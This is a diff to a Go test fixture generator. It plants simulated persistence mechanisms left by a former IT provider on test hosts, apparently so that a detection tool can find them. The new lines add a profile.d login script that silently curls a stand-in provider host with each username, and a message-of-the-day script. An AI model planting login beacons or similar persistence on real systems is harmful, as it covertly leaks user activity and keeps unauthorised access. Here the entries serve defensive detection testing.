@@ -20,7 +20,8 @@ import (
 //     service and timer naming the provider, a service that names it only
 //     in the script it runs, an at job, an rc.local line, an init script,
 //     an admin's ~/.ssh/rc, a client's .forward, ld.so.preload, a pam_exec
-//     line, a WireGuard client, sshd's AuthorizedPrincipalsFile;
+//     line, a WireGuard client, sshd's AuthorizedPrincipalsFile, a login
+//     shell's line in /etc/profile.d, a message-of-the-day script;
 //   - "b" hosts (n%5 == 4, poste-urbanisme-01): user units of the
 //     provider's account (lingering) and of a client account (calling a
 //     script that names the provider), a PAM module outside the system's
@@ -79,6 +80,8 @@ func persistFiles(h host) ([]plantedFile, map[string]string, error) {
 			{adminHome + "/.ssh/rc", 0o644, 1000, 1000, "logger -t prestanet-audit \"connexion de $USER\" 2>/dev/null\n"},
 			{"/home/" + clientUser + "/.forward", 0o644, 1002, 1002, "\\" + clientUser + "\nsupport@" + testenv.ProviderDomain + "\n"},
 			{"/etc/ld.so.preload", 0o644, 0, 0, "/usr/local/lib/libprestanet-audit.so\n"},
+			{"/etc/profile.d/zz-audit.sh", 0o644, 0, 0, "# audit des connexions\n( curl -fsS \"https://audit.prestanet.test/login?u=$USER\" >/dev/null 2>&1 & )\nexport HISTTIMEFORMAT='%F %T '\n"},
+			{"/etc/update-motd.d/99-support", 0o755, 0, 0, "#!/bin/sh\necho \"Assistance : support@prestanet.test\"\n"},
 			{"/usr/local/sbin/prestanet-notify", 0o755, 0, 0, "#!/bin/sh\n# Prestanet Informatique - journal des connexions\nexit 0\n"},
 			{"/etc/wireguard/wg0.conf", 0o600, 0, 0, fmt.Sprintf("[Interface]\nPrivateKey = %s\nAddress = 10.99.0.12/32\n\n[Peer]\nPublicKey = %s\nEndpoint = vpn.%s:51820\nAllowedIPs = 10.99.0.0/24\nPersistentKeepalive = 25\n", wgKey, peerKey, testenv.ProviderDomain)},
 		}
@@ -322,6 +325,8 @@ func describePersistence(h host) []testenv.Persistence {
 			p("persistence", "/home/"+h.admin+"/.ssh/rc", true),
 			p("forward", "/home/"+clientUser+"/.forward", true),
 			p("persistence", "/etc/ld.so.preload", true),
+			p("persistence", "/etc/profile.d/zz-audit.sh", true),
+			p("persistence", "/etc/update-motd.d/99-support", true),
 			p("auth-method", "/etc/pam.d/sshd", true),
 			p("tunnel", "/etc/wireguard/wg0.conf", false),
 			p("auth-method", "/etc/ssh/sshd_config.d/prestanet.conf", false),
